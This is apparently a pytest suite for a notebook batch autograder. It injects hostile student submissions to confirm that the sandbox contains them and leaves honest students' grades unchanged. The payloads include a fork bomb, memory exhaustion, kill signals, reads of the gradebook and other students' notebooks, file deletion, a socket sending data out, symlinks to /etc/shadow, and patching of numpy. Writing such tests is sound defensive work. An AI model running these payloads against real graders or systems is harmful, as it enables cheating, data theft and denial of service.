"""Hostile submissions: the batch grader survives them and nobody else loses anything.

One batch holds every attacker and a few honest students; it is graded once
(module fixture) by the real command line, `--jobs 2 --timeout 2`, in a
scratch course.  The honest students are also graded alone, as the baseline.
Each attacker is the reference notebook with ONE function replaced by an
attack; it must lose exactly that function's points, and gain nothing.

The isolation level the machine gave is recorded with
``record_property("isolation", ...)`` and printed in assertion messages.
"""
from __future__ import annotations

import csv
import hashlib
import json
import os
import secrets
import shutil
import socket
import sqlite3
import subprocess
import sys
import textwrap
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import pytest

from autograder import assignment
from autograder.course import samples

from conftest import NAME, make_course, nbgrader

KIT = Path(__file__).resolve().parent.parent
TOKEN = secrets.token_hex(6)
SECRET_GRADEBOOK = f"SECRET-GRADEBOOK-{TOKEN}"
SECRET_TEACHER = f"SECRET-TEACHER-{TOKEN}"
SECRET_SOURCE = f"SECRET-SOURCE-NOTEBOOK-{TOKEN}"
SECRET_STUDENT = f"SECRET-OTHER-STUDENT-{TOKEN}"
SECRETS = (SECRET_GRADEBOOK, SECRET_TEACHER, SECRET_SOURCE, SECRET_STUDENT)
POINTS = assignment.points()
# Honest students: samples of autograder.course.samples, plus "zoe" (the reference) who is graded
# after every attacker (students are taken in alphabetical order).
HONEST_PLANS = {name: samples.SAMPLES[name] for name in ("alice", "carol", "erin", "frank")}
HONEST_PLANS["zoe"] = {"*": "reference"}
HONEST = tuple(HONEST_PLANS)
EXPECTED_FAILURES = {**samples.EXPECTED_FAILURES, "zoe": set()}


# ---------------------------------------------------------------------------
# running the real command line
# ---------------------------------------------------------------------------


def grader_env(scratch: Path) -> dict:
    """The environment of a grader run: venv on PATH, a private TMPDIR, no gradebook override."""
    tmp = scratch / "tmpdir"
    tmp.mkdir(parents=True, exist_ok=True)
    env = dict(os.environ)
    env["PATH"] = str(Path(sys.executable).parent) + os.pathsep + env.get("PATH", "")
    env["TMPDIR"] = str(tmp)
    env["NBGRADER_DB_URL"] = ""
    return env


def grade_cmd(submitted, out, course, *extra, jobs=2, timeout=2.0):
    return [sys.executable, "-m", "autograder", "grade", str(submitted), "--out", str(out),
            "--course", str(course), "--jobs", str(jobs), "--timeout", str(timeout),
            "--no-progress", *extra]


def run_grader(submitted, out, course, *extra, scratch, jobs=2, timeout=2.0):
    """Run a batch; return (results dict, CompletedProcess).  The batch must succeed."""
    proc = subprocess.run(grade_cmd(submitted, out, course, *extra, jobs=jobs, timeout=timeout),
                          cwd=KIT, env=grader_env(scratch), capture_output=True, text=True,
                          timeout=900)
    assert proc.returncode == 0, f"grader exit {proc.returncode}\n{proc.stdout}\n{proc.stderr}"
    return json.loads((Path(out) / "results.json").read_text()), proc


def write_student(submitted, student, plan, *, extra_markdown=None):
    release = nbformat.read(str(KIT / "release" / NAME / f"{NAME}.ipynb"), as_version=4)
    nb = samples.make_notebook(release, plan)
    if extra_markdown:
        nb.cells.append(nbformat.v4.new_markdown_cell(extra_markdown))
    folder = Path(submitted) / student / NAME
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{NAME}.ipynb"
    nbformat.write(nb, str(path))
    return path


def tree_hash(root: Path) -> dict:
    """{relative path: sha256 of content (or link target)} of every entry under root."""
    state = {}
    for path in sorted(root.rglob("*")):
        rel = str(path.relative_to(root))
        if path.is_symlink():
            state[rel] = "link:" + os.readlink(path)
        elif path.is_file():
            state[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
        else:
            state[rel] = "dir"
    return state


# ---------------------------------------------------------------------------
# the attacks
# ---------------------------------------------------------------------------


@dataclass
class Attack:
    student: str
    function: str
    body: str                      # body of the function (or a whole cell if whole_cell)
    says: tuple = ()               # substrings the function's message must contain
    says_any: tuple = ()           # ... at least one of these
    never_says: tuple = ()         # substrings it must not contain
    diagnosis: str | None = None   # a code that must be in the diagnosis
    whole_cell: bool = False


def cell_source(attack: Attack, ctx: dict) -> str:
    body = textwrap.dedent(attack.body).strip("\n")
    for key, value in ctx.items():
        body = body.replace("@" + key + "@", str(value))
    if attack.whole_cell:
        return body + "\n"
    return (f"# GRADED FUNCTION: {attack.function}\nimport numpy as np\n\n"
            f"def {attack.function}(*args, **kwargs):\n" + textwrap.indent(body, "    ") + "\n")


def honest_then(function: str, tail: str) -> str:
    """A cell holding the reference as _honest(), and `function` calling it, then `tail`."""
    ref = assignment.reference_sources()[function].replace(f"def {function}(", "def _honest(")
    return ref + f"\n\ndef {function}(*args):\n    result = _honest(*args)\n" + \
        textwrap.indent(textwrap.dedent(tail).strip("\n"), "    ") + "\n"


READ_ATTEMPT = """
try:
    with open("@PATH@", "rb") as fh:
        text = fh.read().decode("utf-8", "replace")
except BaseException as error:
    raise RuntimeError("DENIED " + type(error).__name__)
where = max(text.find("SECRET"), 0)
raise RuntimeError("GOT " + text[where:where + 300])
"""

# Where the case payloads (or the oracle's recorded calls) are, whatever the layout of the
# grader's sandbox: the folder holding `name`, else RuntimeError("NO-PAYLOAD-FOUND").
FIND_PAYLOADS = """
import glob, json, os, sys
def find_payloads(name="rnn_forward.npz"):
    for arg in list(sys.argv) + [os.getcwd()]:
        if os.path.isfile(os.path.join(str(arg), name)):
            return str(arg)
    for job in glob.glob("**/job.json", recursive=True):
        found = json.load(open(job)).get("payload_dir")
        if found and os.path.isfile(os.path.join(found, name)):
            return found
    hits = glob.glob("/tmp/**/" + name, recursive=True)
    if hits:
        return os.path.dirname(hits[0])
    raise RuntimeError("NO-PAYLOAD-FOUND")
"""

WRITE_ATTEMPT = FIND_PAYLOADS + """
import shutil
done = []
def attempt(label, action):
    try:
        action()
        done.append(label)
    except BaseException:
        pass
def append(path, data=""):
    with open(path, "a") as fh:
        fh.write(data)
try:
    payloads = find_payloads()
except RuntimeError:
    payloads = None  # the payloads are out of reach too: nothing of them to overwrite
attempt("course-config", lambda: append("@COURSE@/nbgrader_config.py", "# pwned\\n"))
attempt("teacher", lambda: append("@COURSE@/notebooks/rnn_step_by_step.py", "# pwned\\n"))
attempt("gradebook", lambda: open("@COURSE@/gradebook.db", "wb").write(b"pwned"))
attempt("rm-notebook", lambda: os.remove("@ALICE_NB@"))
attempt("rmtree-submitted", lambda: shutil.rmtree("@COURSE@/submitted"))
attempt("out-results", lambda: open("@OUT@/results.json", "w").write("{}"))
attempt("out-journal", lambda: open("@OUT@/.journal/forged.json", "w").write("{}"))
attempt("host-tmp", lambda: open("@HOST_PROBE@", "w").write("x"))
attempt("kit-root", lambda: open("@KIT_PROBE@", "w").write("x"))
attempt("kit-code", lambda: append("@KIT@/autograder/sandbox/compare.py"))
if payloads is not None:
    attempt("payload", lambda: [append(p) for p in glob.glob(payloads + "/*.npz")] and None)
    attempt("payload-new", lambda: open(payloads + "/planted.npz", "w").write("x"))
raise RuntimeError("WROTE " + ",".join(done) if done else "NOTHING-WRITTEN")
"""

NETWORK_ATTEMPT = """
import socket
try:
    conn = socket.create_connection(("127.0.0.1", @PORT@), timeout=1)
    conn.sendall(b"exfiltrated")
except OSError as error:
    raise RuntimeError("NO-NETWORK " + type(error).__name__)
raise RuntimeError("CONNECTED")
"""

# rnn_cell_forward answered from the oracle table of rnn_forward (rnn_forward.calls.npz):
# the reference's answers to the calls a correct rnn_forward makes.  Only the oracle
# process reads that file; the child's view of the payload folder is an empty tmpfs, so
# the attack must fail to find it ("NO-PAYLOAD-FOUND").  Were the table in reach, only
# the published example (seed 1) is among its calls, so at most that case could be
# answered and the others would fail with "NO-MATCHING-CALL".
ORACLE_PEEK = FIND_PAYLOADS + """
from autograder.sandbox import child
for calls in child.load_calls(find_payloads("rnn_forward.calls.npz") + "/rnn_forward.calls.npz"):
    for call_args, answer, _ in calls:
        if all(np.array_equal(a, b) for a, b in zip(call_args[:2], args[:2])) and \\
                all(np.array_equal(call_args[2][k], args[2][k]) for k in args[2]):
            return answer
raise RuntimeError("NO-MATCHING-CALL")
"""

# rnn_cell_forward taken from the teacher notebook the grader itself uses (the kit's).
KIT_REFERENCE_CHEAT = """
try:
    text = open("@KIT@/notebooks/rnn_step_by_step.py").read()
except BaseException as error:
    raise RuntimeError("DENIED " + type(error).__name__)
start = text.index("def rnn_cell_forward(")
end = text.index("# %%", start)
ns = dict(globals())
exec(text[start:end], ns)
return ns["rnn_cell_forward"](*args)
"""

# Write a forged protocol line to the grader's side of whatever runs us.
FORGE_REPLY = """
import os
done = []
for pid in {os.getppid(), 1}:
    for fd in range(0, 64):
        try:
            with open(f"/proc/{pid}/fd/{fd}", "w") as fh:
                fh.write('{"function": "lstm_backward", "status": "ok"}\\n{"done": "x"}\\n')
            done.append(f"{pid}/{fd}")
        except OSError:
            pass
raise RuntimeError("FORGED " + ",".join(done) if done else "NO-PIPE-REACHED")
"""

TIMEOUT = ("TimeoutError",)

# SIGKILL to every process it may signal (-1) or to its parent, and which defence stopped it.
KILL = """
import os, signal
try:
    os.kill(@PID@, signal.SIGKILL)
except OSError as error:
    raise RuntimeError("KILL-REFUSED " + type(error).__name__)
raise RuntimeError("KILL-SENT")
"""

# Result files planted as symlinks to /etc/shadow wherever a job folder is found.
PLANT_SYMLINKS = """
import glob, os
for folder in {os.getcwd()} | {os.path.dirname(os.path.abspath(j)) for j in glob.glob("**/job.json", recursive=True)}:
    for name in @NAMES@:
        try:
            os.symlink("/etc/shadow", os.path.join(folder, name))
        except OSError:
            pass
"""
CATCH_ALL_LOOP = """
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
"""
GROWING_LIST = """
hoard = []
while True:
    hoard.append(bytearray(10**7))  # touched memory: MemoryError or the time limit, first
"""
GROWING_ADDRESS_SPACE = """
hoard = []
while True:
    hoard.append(np.empty(10**8))  # untouched: only the address-space limit stops it
"""

ATTACKS = [
    # --- endless loops --------------------------------------------------------
    Attack("loop_forever", "lstm_forward", "while True:\n    pass", says=TIMEOUT),
    Attack("loop_in_dependency", "rnn_cell_backward", "while True:\n    pass", says=TIMEOUT),
    Attack("loop_catching_timer", "lstm_cell_forward", CATCH_ALL_LOOP, says=TIMEOUT),
    Attack("loop_catching_timer_in_loop_function", "rnn_backward", CATCH_ALL_LOOP, says=TIMEOUT),
    # --- memory -----------------------------------------------------------------
    Attack("memory_huge_array", "lstm_cell_forward", "return np.ones((10**6, 10**6))",
           says=("MemoryError",)),
    Attack("memory_growing_list", "rnn_cell_forward", GROWING_LIST,
           says_any=("MemoryError", "TimeoutError")),
    Attack("memory_growing_address_space", "lstm_backward", GROWING_ADDRESS_SPACE,
           says=("MemoryError",)),
    # --- processes ----------------------------------------------------------------
    Attack("fork_bomb", "rnn_forward", """
        import os
        while True:
            try:
                os.fork()
            except OSError:
                pass
        """, says=TIMEOUT),
    Attack("fork_and_return", "rnn_backward", """
        import os
        for _ in range(8):
            try:
                os.fork()
            except OSError:
                pass
        return None
        """, says=("NoneType",)),
    # the kernel refuses both kills (one that went through would say KILL-SENT, or crash):
    # kill(-1) finds no process at all (ESRCH), as the child's pid namespace holds only it
    # and the job's init; the init, its parent, runs as another uid (EPERM)
    Attack("kill_everything", "lstm_backward", KILL.replace("@PID@", "-1"),
           says=("KILL-REFUSED ProcessLookupError",), never_says=("KILL-SENT",)),
    # (without root the init shares the child's uid: the signal is sent, and the init, pid 1
    # of the job's own namespace, ignores it; the other tests prove that nobody else loses)
    Attack("kill_parent", "rnn_cell_forward", KILL.replace("@PID@", "os.getppid()"),
           says=("KILL-REFUSED PermissionError",) if os.geteuid() == 0 else ("KILL-",),
           never_says=("KILL-SENT",) if os.geteuid() == 0 else ()),
    Attack("forge_reply", "lstm_cell_backward", FORGE_REPLY, says=("NO-PIPE-REACHED",),
           never_says=("FORGED",)),
    # --- output floods ---------------------------------------------------------------
    Attack("print_flood", "rnn_cell_forward", 'while True:\n    print("x" * 10**6)', says=TIMEOUT),
    Attack("write_flood", "lstm_cell_backward", """
        import os
        block = b"x" * 2**20
        while True:
            os.write(1, block)
            os.write(2, block)
        """, says=TIMEOUT),
    # --- exits and crashes -----------------------------------------------------------
    Attack("os_exit", "lstm_cell_backward", "import os\nos._exit(0)", says=("Crash", "os._exit")),
    Attack("os_exit_in_loop_function", "rnn_forward", "import os\nos._exit(0)",
           says=("Crash", "os._exit")),
    Attack("sys_exit", "lstm_forward", "import sys\nsys.exit()", says=("SystemExit",)),
    Attack("raise_systemexit", "lstm_cell_forward", "raise SystemExit(3)", says=("SystemExit",)),
    Attack("segfault", "rnn_cell_backward", "import ctypes\nctypes.string_at(0)",
           says=("segmentation fault",)),
    Attack("segfault_in_loop_function", "lstm_backward", "import ctypes\nctypes.string_at(0)",
           says=("segmentation fault",)),
    # --- patching the interpreter ---------------------------------------------------
    Attack("patch_numpy", "rnn_cell_forward", """
        np.allclose = lambda *a, **k: True
        np.isclose = lambda *a, **k: True
        np.array_equal = lambda *a, **k: True
        np.testing.assert_allclose = lambda *a, **k: None
        np.testing.assert_array_equal = lambda *a, **k: None
        np.random.seed = lambda *a, **k: None
        return np.zeros((1, 1)), np.zeros((1, 1)), ()
        """, says=("shape",)),
    Attack("patch_builtins", "lstm_cell_forward", """
        import builtins
        builtins.isinstance = lambda *a, **k: True
        builtins.len = lambda *a, **k: 0
        return "wrong"
        """, says=("object of type str",)),
    Attack("patch_type", "rnn_forward", """
        import builtins
        real = type
        builtins.type = lambda *a: np.ndarray if len(a) == 1 else real(*a)
        return "wrong"
        """, says=("object of type str",)),
    Attack("fake_numpy_module", "rnn_cell_backward", """
        import sys, types
        fake = types.ModuleType("numpy")
        fake.allclose = lambda *a, **k: True
        fake.array_equal = lambda *a, **k: True
        sys.modules["numpy"] = fake
        return {}
        """, says=("no key",)),
    # --- reading what the student must not see ----------------------------------------
    Attack("read_gradebook", "rnn_forward", READ_ATTEMPT.replace("@PATH@", "@COURSE@/gradebook.db"),
           says=("DENIED",), never_says=("GOT ",)),
    Attack("read_teacher_notebook", "lstm_forward",
           READ_ATTEMPT.replace("@PATH@", "@COURSE@/notebooks/rnn_step_by_step.py"),
           says=("DENIED",), never_says=("GOT ",)),
    Attack("read_source_notebook", "rnn_backward",
           READ_ATTEMPT.replace("@PATH@", f"@COURSE@/source/{NAME}/{NAME}.ipynb"),
           says=("DENIED",), never_says=("GOT ",)),
    Attack("read_other_student", "lstm_backward", READ_ATTEMPT.replace("@PATH@", "@ALICE_NB@"),
           says=("DENIED",), never_says=("GOT ",)),
    Attack("read_kit_teacher_notebook", "lstm_cell_backward",
           READ_ATTEMPT.replace("@PATH@", "@KIT@/notebooks/rnn_step_by_step.py"),
           says=("DENIED",), never_says=("GOT ",)),
    Attack("cheat_with_kit_reference", "rnn_cell_forward", KIT_REFERENCE_CHEAT, says=("DENIED",)),
    Attack("oracle_peek", "rnn_cell_forward", ORACLE_PEEK, says=("NO-PAYLOAD-FOUND",),
           never_says=("NO-MATCHING-CALL",)),
    # --- writing, network ----------------------------------------------------------
    Attack("write_outside", "lstm_cell_forward", WRITE_ATTEMPT, says=("NOTHING-WRITTEN",),
           never_says=("WROTE",)),
    Attack("network", "rnn_forward", NETWORK_ATTEMPT, says=("NO-NETWORK",),
           never_says=("CONNECTED",)),
    # --- odd return values ---------------------------------------------------------
    Attack("eq_always_true", "rnn_forward", """
        class Liar:
            def __eq__(self, other):
                return True
            def __ne__(self, other):
                return False
            __hash__ = object.__hash__
            def __array__(self, *a, **k):
                return np.zeros((5, 10))
        return Liar(), Liar(), [Liar()]
        """, says=("object of type Liar",)),
    Attack("ndarray_subclass", "lstm_cell_backward", """
        class Evil(np.ndarray):
            def __eq__(self, other):
                return np.ones(np.shape(other), dtype=bool)
            def __array_finalize__(self, obj):
                pass
            def __array__(self, *a, **k):
                return np.zeros(3)
        keys = ("dxt", "da_prev", "dc_prev", "dWf", "dWi", "dWc", "dWo", "dbf", "dbi", "dbc", "dbo")
        return {k: np.zeros((2, 2)).view(Evil) for k in keys}
        """, says=("object of type Evil",)),
    Attack("metaclass_liar", "lstm_forward", """
        class Meta(type):
            def __eq__(cls, other):
                return True
            __hash__ = type.__hash__
        class Sneaky(metaclass=Meta):
            pass
        return Sneaky()
        """, says=("Sneaky",)),
    Attack("huge_array", "rnn_cell_forward", "return np.zeros(10**8), np.zeros(1), ()",
           says=("larger than",)),
    Attack("random_state", "lstm_cell_backward", honest_then("lstm_cell_backward", """
        result["dxt"] = result["dxt"] + np.random.randn(*result["dxt"].shape)
        return result
        """), whole_cell=True, diagnosis="RANDOM_STATE", says=("global random state",)),
    # --- planting files the grader reads ---------------------------------------------
    Attack("symlink_result", "lstm_cell_forward",
           PLANT_SYMLINKS.replace("@NAMES@", '["out_lstm_cell_forward.oracle.obs"]') +
           'raise RuntimeError("PLANTED")\n', says=("PLANTED",), never_says=("root:",)),
    Attack("symlink_temporary_file", "rnn_cell_backward",
           PLANT_SYMLINKS.replace("@NAMES@", '["out_rnn_cell_backward.oracle.obs", ".out_rnn_cell_backward.oracle.tmp"]') +
           'raise RuntimeError("PLANTED")\n', says_any=("could not be saved", "could not be read", "PLANTED"),
           never_says=("root:",)),
    Attack("symlink_then_hang", "rnn_backward",
           PLANT_SYMLINKS.replace("@NAMES@", '["out_rnn_backward.oracle.obs", ".out_rnn_backward.oracle.tmp",\n'
                                                '"out_rnn_backward.own.obs", ".out_rnn_backward.own.tmp"]') +
           "while True:\n    pass\n", never_says=("root:",)),
]
ATTACK_BY_NAME = {a.student: a for a in ATTACKS}
assert len(ATTACK_BY_NAME) == len(ATTACKS)


# ---------------------------------------------------------------------------
# the batch
# ---------------------------------------------------------------------------


@dataclass
class Batch:
    course: Path
    submitted: Path
    out: Path
    results: dict
    baseline: dict
    stderr: str
    before: dict            # tree_hash of the course before grading
    after: dict
    connections: list = field(default_factory=list)
    probes: dict = field(default_factory=dict)
    seconds: float = 0.0


def plant_secrets(course: Path) -> None:
    (course / "gradebook.db").write_text(f"not a real database\n{SECRET_GRADEBOOK}\n")
    with open(course / "notebooks" / f"{NAME}.py", "a") as fh:
        fh.write(f"\n# {SECRET_TEACHER}\n")
    source = course / "source" / NAME / f"{NAME}.ipynb"
    nb = nbformat.read(str(source), as_version=4)
    nb.cells.append(nbformat.v4.new_markdown_cell(SECRET_SOURCE))
    nbformat.write(nb, str(source))


def write_honest(submitted: Path) -> None:
    for student in HONEST:
        write_student(submitted, student, HONEST_PLANS[student],
                      extra_markdown=SECRET_STUDENT if student == "alice" else None)


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    import time
    scratch = tmp_path_factory.mktemp("attacks")
    course = make_course(scratch / "course")
    plant_secrets(course)
    submitted = course / "submitted"
    write_honest(submitted)

    # the honest students alone: the baseline
    base_dir = scratch / "baseline-submitted"
    write_honest(base_dir)
    baseline, _ = run_grader(base_dir, scratch / "baseline-out", course, "--no-gradebook",
                             scratch=scratch)

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    out = scratch / "out"
    ctx = {"COURSE": course, "OUT": out, "KIT": KIT, "PORT": listener.getsockname()[1],
           "ALICE_NB": submitted / "alice" / NAME / f"{NAME}.ipynb",
           "HOST_PROBE": f"/tmp/attack-probe-{TOKEN}", "KIT_PROBE": KIT / f".attack-probe-{TOKEN}"}
    for attack in ATTACKS:
        write_student(submitted, attack.student, {"*": "reference",
                                                  attack.function: cell_source(attack, ctx)})
    before = tree_hash(course)
    started = time.monotonic()
    try:
        results, proc = run_grader(submitted, out, course, "--no-gradebook", scratch=scratch)
    finally:
        listener.setblocking(False)
        connections = []
        while True:
            try:
                conn, _ = listener.accept()
            except BlockingIOError:
                break
            connections.append(conn.recv(100))
            conn.close()
        listener.close()
    seconds = time.monotonic() - started
    probes = {}
    for key in ("HOST_PROBE", "KIT_PROBE"):
        path = Path(ctx[key])
        probes[key] = path.exists()
        if path.exists():
            path.unlink()  # the sandbox failed; do not leave the file behind
    return Batch(course, submitted, out, results, baseline, proc.stderr, before, tree_hash(course),
                 connections, probes, seconds)


def iso_of(batch) -> str:
    return batch.results["isolation"]


# ---------------------------------------------------------------------------
# the tests
# ---------------------------------------------------------------------------


def test_isolation_level_is_recorded(batch, record_property):
    """Which isolation did the batch run under (bubblewrap expected on the CI machine)?"""
    record_property("isolation", iso_of(batch))
    record_property("batch_seconds", round(batch.seconds, 1))
    assert batch.results["isolation"] == batch.baseline["isolation"]
    assert "bubblewrap" in iso_of(batch), f"weaker sandbox than expected: {iso_of(batch)}"
    assert f"isolation: {iso_of(batch)}" in batch.stderr


def test_every_submission_is_graded(batch):
    """Is every attacker and every honest student in results.json, none with a whole-file error?"""
    want = set(HONEST) | set(ATTACK_BY_NAME)
    assert set(batch.results["students"]) == want
    for student, entry in batch.results["students"].items():
        assert entry["error"] is None, (student, entry["error"])
        assert set(entry["functions"]) == set(assignment.FUNCTIONS), student


def test_honest_students_are_unaffected(batch, record_property):
    """Does each honest student get, in the mixed batch, exactly their baseline result
    (scores, passed, diagnosis and message of every function)?"""
    record_property("isolation", iso_of(batch))
    lost = sum(batch.baseline["students"][s]["total"] - batch.results["students"][s]["total"]
               for s in HONEST)
    changed = [s for s in HONEST if batch.results["students"][s] != batch.baseline["students"][s]]
    record_property("corpus", {"kind": "attacks", "tried": len(ATTACKS), "honest": len(HONEST),
                               "points_lost": lost, "results_changed": len(changed)})
    for student in HONEST:
        got, want = batch.results["students"][student], batch.baseline["students"][student]
        assert got == want, f"{student} changed next to the attackers ({iso_of(batch)})"
    assert lost == 0.0


def test_honest_baseline_is_what_the_samples_promise(batch):
    """Does the baseline itself fail exactly the sample students' known mistakes?"""
    for student in HONEST:
        entry = batch.baseline["students"][student]
        failed = {f for f, r in entry["functions"].items() if not r["passed"]}
        assert failed == EXPECTED_FAILURES[student], student


def _context(batch, attack):
    return f"[{attack.student} -> {attack.function}; isolation: {iso_of(batch)}]"


@pytest.mark.parametrize("name", list(ATTACK_BY_NAME))
def test_attacked_function_fails_with_the_stated_outcome(batch, name, record_property):
    """Does the attacked function score 0, with the outcome the attack calls for (timeout,
    memory, crash, denied, ...) named in the student's message?"""
    record_property("isolation", iso_of(batch))
    attack = ATTACK_BY_NAME[name]
    target = batch.results["students"][attack.student]["functions"][attack.function]
    context = _context(batch, attack)
    assert target["passed"] is False and target["score"] == 0.0, \
        f"the attack gained points {context}: {target}"
    for text in attack.says:
        assert text.lower() in target["message"].lower(), f"{context} message: {target['message']!r}"
    for text in attack.never_says:
        assert text not in target["message"], f"{context} message: {target['message']!r}"
    if attack.says_any:
        assert any(t.lower() in target["message"].lower() for t in attack.says_any), \
            f"{context} message: {target['message']!r}"
    if attack.diagnosis:
        assert attack.diagnosis in target["diagnosis"], f"{context} {target}"


@pytest.mark.parametrize("name", list(ATTACK_BY_NAME))
def test_attacker_keeps_every_other_function(batch, name, record_property):
    """Does the attacker keep full marks on the 7 functions it did not attack?"""
    record_property("isolation", iso_of(batch))
    attack = ATTACK_BY_NAME[name]
    entry = batch.results["students"][attack.student]
    lost = {f: r for f, r in entry["functions"].items()
            if f != attack.function and not (r["passed"] and r["score"] == POINTS[f])}
    assert not lost, f"{_context(batch, attack)} the attack cost other functions too: " + \
        json.dumps({f: r["message"][:300] for f, r in lost.items()}, indent=1)
    assert entry["total"] >= sum(POINTS.values()) - POINTS[attack.function]


def _output_files(out: Path):
    for path in sorted(out.rglob("*")):
        if path.is_file() and path.suffix in (".json", ".csv", ".html", ".txt"):
            yield path


def test_secrets_never_reach_the_outputs(batch):
    """Do the planted secrets (course gradebook, teacher notebook, source notebook, another
    student's notebook) and /etc/shadow stay out of every output file?"""
    try:  # an unprivileged grader cannot read it (and so neither can its children)
        shadow = Path("/etc/shadow").read_text().splitlines()[0]
    except (OSError, IndexError):
        shadow = None
    for path in _output_files(batch.out):
        text = path.read_text(errors="replace")
        for secret in SECRETS:
            assert secret not in text, f"{secret} leaked into {path}"
        assert shadow is None or shadow not in text, f"/etc/shadow leaked into {path}"


def test_kit_reference_never_reaches_the_outputs(batch):
    """Does no output file show the teacher notebook of the kit the grader runs from?"""
    header = "#     text_representation:"  # the jupytext header of notebooks/rnn_step_by_step.py
    assert header in (KIT / "notebooks" / f"{NAME}.py").read_text()
    for path in _output_files(batch.out):
        assert header not in path.read_text(errors="replace"), f"the kit's teacher notebook leaked into {path}"


def test_course_directory_is_unchanged(batch):
    """Is every file of the scratch course (config, notebooks, gradebook, submissions)
    byte-identical after the attackers ran?"""
    changed = {k for k in set(batch.before) | set(batch.after) if batch.before.get(k) != batch.after.get(k)}
    assert not changed, f"changed by the batch: {sorted(changed)[:20]} ({iso_of(batch)})"


def test_nothing_written_on_the_host(batch):
    """Did no attacker create a file in the host's /tmp or in the kit root, or leave files in the
    output directory that the grader did not write?"""
    assert batch.probes == {"HOST_PROBE": False, "KIT_PROBE": False}, iso_of(batch)
    assert not (batch.out / ".journal" / "forged.json").exists()
    json.loads((batch.out / "results.json").read_text())  # still the grader's, valid JSON


def test_no_network_connection_arrives(batch):
    """Did the listener on 127.0.0.1 receive no connection from the network attacker?"""
    assert batch.connections == [], f"{batch.connections} ({iso_of(batch)})"


def test_grades_csv_matches_results(batch):
    """Does grades.csv carry every student with the total of results.json?"""
    with open(batch.out / "grades.csv", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == len(batch.results["students"])
    assert len(list((batch.out / "feedback").glob("*.html"))) == len(batch.results["students"])


# ---------------------------------------------------------------------------
# the gradebook survives the attackers
# ---------------------------------------------------------------------------

# the attackers who go after files (the gradebook above all) or the grading processes
GRADEBOOK_ATTACKERS = ("write_outside", "kill_everything", "symlink_result", "read_gradebook")


@pytest.fixture(scope="module")
def gradebook_batch(tmp_path_factory):
    scratch = tmp_path_factory.mktemp("attacks-gradebook")
    course = make_course(scratch / "course")
    nbgrader(course, "generate_assignment", NAME, "--force")
    submitted = course / "submitted"
    for student in ("alice", "carol", "frank"):
        write_student(submitted, student, samples.SAMPLES[student])
    out = scratch / "out"
    ctx = {"COURSE": course, "OUT": out, "KIT": KIT, "PORT": 9,
           "ALICE_NB": submitted / "alice" / NAME / f"{NAME}.ipynb",
           "HOST_PROBE": f"/tmp/attack-probe-gb-{TOKEN}", "KIT_PROBE": KIT / f".attack-probe-gb-{TOKEN}"}
    for name in GRADEBOOK_ATTACKERS:
        attack = ATTACK_BY_NAME[name]
        write_student(submitted, name, {"*": "reference", attack.function: cell_source(attack, ctx)})
    db = course / "gradebook.db"
    before = hashlib.sha256(db.read_bytes()).hexdigest()
    results, proc = run_grader(submitted, out, course, scratch=scratch)
    for key in ("HOST_PROBE", "KIT_PROBE"):
        assert not Path(ctx[key]).exists()
    return course, results, before


def test_gradebook_is_intact_and_right(gradebook_batch):
    """After a batch with attackers, written WITH the gradebook: is the SQLite file sound, and do
    the Gradebook API and the real `nbgrader export` show every student's right scores?"""
    from nbgrader.api import Gradebook
    course, results, before = gradebook_batch
    db = course / "gradebook.db"
    with sqlite3.connect(db) as conn:
        assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    assert hashlib.sha256(db.read_bytes()).hexdigest() != before  # the grader did write it
    with Gradebook(f"sqlite:///{db}") as gb:
        for student, entry in results["students"].items():
            for function in assignment.FUNCTIONS:
                grade = gb.find_grade(assignment.test_cell_id(function), NAME, NAME, student)
                assert grade.score == entry["functions"][function]["score"], (student, function)
    for student in ("alice", "carol", "frank"):
        entry = results["students"][student]
        failed = {f for f, r in entry["functions"].items() if not r["passed"]}
        assert failed == samples.EXPECTED_FAILURES[student], student
    for name in GRADEBOOK_ATTACKERS:  # (what else they keep is the business of the tests above)
        attack = ATTACK_BY_NAME[name]
        assert results["students"][name]["functions"][attack.function]["score"] == 0.0, name

    env = grader_env(course.parent)
    env["JUPYTER_CONFIG_DIR"] = str(course / ".jupyter")
    env["HOME"] = str(course)
    proc = subprocess.run([sys.executable, "-m", "nbgrader", "export", "--to", "export.csv"],
                          cwd=course, env=env, capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    with open(course / "export.csv", newline="") as fh:
        rows = {row["student_id"]: row for row in csv.DictReader(fh)}
    for student, entry in results["students"].items():
        assert float(rows[student]["score"]) == pytest.approx(entry["total"]), student
        assert float(rows[student]["max_score"]) == pytest.approx(entry["max"]), student


# ===========================================================================
# Round two (issue 11): seven classes of attack, each next to honest students
# ===========================================================================
#
# The catalogue is tests/attacks_round2.py.  Most attacks go into one batch, graded
# with --jobs 1 and again with --jobs 2, in which every attacker is followed by an
# honest student (names sort so: "07_attack", "07~honest", "08_attack", ...), so that
# with --jobs 1 the honest student after an attacker is graded in the same slot, by the
# same fork server, right after it.  Attacks that could stop a batch, exhaust the
# parent or wreck a slot for good are graded in a small batch of their own (honest
# students before and after), so that each one is judged on its own.

import attacks_round2 as R2  # noqa: E402

COMM = ("rt" + TOKEN)[:15]           # process name of every lingering process of an attack
IPC_KEY = int(TOKEN[:7], 16) + 1     # System V key of the IPC attacks
COPY = Path(f"/var/tmp/rnn-course-copy-{TOKEN}")   # another course copy on the host
PEAK_LIMIT_KIB = 500 * 1024
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"


def _cls(n):
    return {1: "state", 2: "oracle", 3: "host", 4: "fault", 5: "results", 6: "time", 7: "output"}[n]


@dataclass
class Hostile(Attack):
    """A round-two attack: its class, and where it is graded."""
    cls: int = 0
    folder: str | None = None      # a hostile folder name (the notebook is the reference)
    notebook_dir: str | None = None  # the only "notebook" is a named pipe with this name
    alone: bool = False            # graded in a batch of its own
    jobs: tuple = (1,)             # --jobs of its own batch
    timeout: float = 2.0


def H(cls, student, function, body="", **kw):
    return Hostile(student, function, body, cls=cls, **kw)


LOSES = ("RuntimeError",)
ORACLE_LOOPS = ("rnn_forward", "lstm_forward", "rnn_backward", "lstm_backward")
